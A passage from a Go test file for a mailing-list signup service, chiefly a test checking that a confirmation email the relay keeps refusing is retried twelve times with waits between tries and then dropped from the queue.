		t.Fatalf("mailed %v, want each of the 5 once", mailer.sent)
	}
}

// TestConfirmationGivenUp: a confirmation the relay keeps refusing is tried twelve times,
// with a wait between tries, and then leaves the queue.
func TestConfirmationGivenUp(t *testing.T) {
	ctx := context.Background()
	f := setup(t)
	r := &relay{down: true}
	svc := roster.New(roster.Options{Store: f.db, Tokens: f.sg, Confirmations: r, BaseURL: "https://news.example.org", Now: f.clock.Now})
	if _, err := svc.SignUp(ctx, roster.SignUp{Email: "a@example.com"}); err != nil {
		t.Fatal(err)
	}
	for range 20 {
		if n, err := svc.SendQueuedConfirmations(ctx); err != nil || n != 0 {
			t.Fatalf("%d sent, %v", n, err)
		}
		f.clock.Add(3 * time.Hour) // past the longest wait between tries
	}
	if r.calls != 12 {
		t.Fatalf("%d tries, want 12", r.calls)
	}
	if due, err := f.db.DueConfirmations(ctx, f.clock.Now(), 10); err != nil || len(due) != 0 {
		t.Fatalf("%d still queued (%v), want none", len(due), err)
	}
}
